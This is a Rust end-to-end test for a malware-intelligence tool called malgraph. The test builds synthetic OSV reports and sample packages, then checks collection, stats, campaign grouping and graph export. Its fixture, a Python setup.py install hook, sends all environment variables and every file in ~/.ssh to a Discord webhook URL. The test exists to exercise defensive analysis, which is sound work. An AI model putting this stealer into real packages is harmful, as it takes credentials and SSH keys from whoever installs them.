//! End-to-end: collect -> stats -> graph build -> campaigns / show / export, on a SQLite store,
//! with synthetic intelligence and samples written by the test.

mod common;

use assert_cmd::Command;
use common::targz;
use std::path::Path;

const STEALER: &str = r#"import os, json, urllib.request
from setuptools import setup
from setuptools.command.install import install

class Steal(install):
    def run(self):
        data = json.dumps(dict(os.environ)).encode()
        urllib.request.urlopen("https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz_ABCDEFGHIJKLMNOPQRSTUV", data)
        for root, dirs, files in os.walk(os.path.expanduser("~/.ssh")):
            for f in files:
                payload = open(os.path.join(root, f)).read()
                urllib.request.urlopen("https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz_ABCDEFGHIJKLMNOPQRSTUV", payload.encode())
        install.run(self)

setup(name="NAME", version="1.0", cmdclass={"install": Steal})
"#;

fn osv(dir: &Path, name: &str, id: &str) {
    let p = dir.join(format!("osv/malicious/pypi/{name}"));
    std::fs::create_dir_all(&p).unwrap();
    let doc = serde_json::json!({
        "id": id, "published": "2024-03-01T00:00:00Z", "modified": "2024-03-02T00:00:00Z",
        "summary": format!("Malicious code in {name} (PyPI)"),
        "affected": [{"package": {"ecosystem": "PyPI", "name": name},
                      "versions": ["1.0"]}],
        "references": [{"type": "WEB", "url": "https://security.example-vendor.com/blog/stealer-wave"}],
    });
    std::fs::write(p.join(format!("{id}.json")), doc.to_string()).unwrap();
}

fn malgraph(db: &Path) -> Command {
    let mut c = Command::cargo_bin("malgraph").unwrap();
    c.env("MALGRAPH_DB", db);
    c
}

#[test]
fn collect_stats_graph_round_trip() {
    let dir = tempfile::tempdir().unwrap();
    let intel = dir.path().join("intel");
    osv(&intel, "stealer-one", "MAL-2024-1");
    osv(&intel, "stealer-two", "MAL-2024-2");
    let samples = dir.path().join("samples");
    for name in ["stealer-one", "stealer-two"] {
        let body = STEALER.replace("NAME", name);
        targz(
            &samples.join(format!("{name}/1.0/{name}-1.0.tar.gz")),
            &[(format!("{name}-1.0/setup.py"), body)],
        );
    }
    let db = dir.path().join("store.db");

    let out = malgraph(&db)
        .arg("collect")
        .arg(&intel)
        .arg(&samples)
        .arg("--scan")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let stats = |db: &Path| -> serde_json::Value {
        let out = malgraph(db)
            .args(["stats", "--format", "json"])
            .output()
            .unwrap();
        assert!(out.status.success());
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let s1 = stats(&db);
    assert_eq!(s1["packages_by_ecosystem"]["PyPI"], 2);
    assert_eq!(s1["samples"], 2);
    assert_eq!(s1["reports"], 2);

    // Collecting again changes nothing.
    malgraph(&db)
        .arg("collect")
        .arg(&intel)
        .arg(&samples)
        .assert()
        .success();
    assert_eq!(stats(&db), s1);

    let out = malgraph(&db).args(["graph", "build"]).output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let out = malgraph(&db)
        .args(["campaigns", "--format", "json"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let c: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let text = c.to_string();
    assert!(
        text.contains("stealer-one") && text.contains("stealer-two"),
        "{text}"
    );

    let out = malgraph(&db)
        .args(["graph", "show", "pypi/stealer-one@1.0"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(shown.contains("stealer-two"), "{shown}");

    // Two exports are identical, and the JSON is node-link shaped.
    let export = || {
        malgraph(&db)
            .args(["graph", "export", "--format", "json"])
            .output()
            .unwrap()
            .stdout
    };
    let (a, b) = (export(), export());
    assert_eq!(a, b);
    let g: serde_json::Value = serde_json::from_slice(&a).unwrap();
    assert!(
        g["nodes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|n| n["kind"] == "package-version"
                && n["name"] == "stealer-one"
                && n["version"] == "1.0"
                && n["ecosystem"] == "PyPI")
    );
    assert!(!g["links"].as_array().unwrap().is_empty());

    let neo = dir.path().join("neo4j");
    malgraph(&db)
        .args(["graph", "export", "--format", "neo4j", "--out"])
        .arg(&neo)
        .assert()
        .success();
    assert!(neo.join("import.cypher").exists());
}

#[test]
fn collect_reports_a_bad_source_and_keeps_the_others() {
    let dir = tempfile::tempdir().unwrap();
    let intel = dir.path().join("intel");
    osv(&intel, "good-evil", "MAL-2024-3");
    let junk = dir.path().join("junk.bin");
    std::fs::write(&junk, b"\x00\x01not a source").unwrap();
    let db = dir.path().join("store.db");
    let out = malgraph(&db)
        .arg("collect")
        .arg(&junk)
        .arg(&intel)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("junk.bin"));
    let out = malgraph(&db)
        .args(["stats", "--format", "json"])
        .output()
        .unwrap();
    let s: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(s["packages_by_ecosystem"]["PyPI"], 1);
}

#[test]
fn graph_commands_explain_a_missing_graph() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("empty.db");
    let out = malgraph(&db).arg("campaigns").output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("graph build"));
}
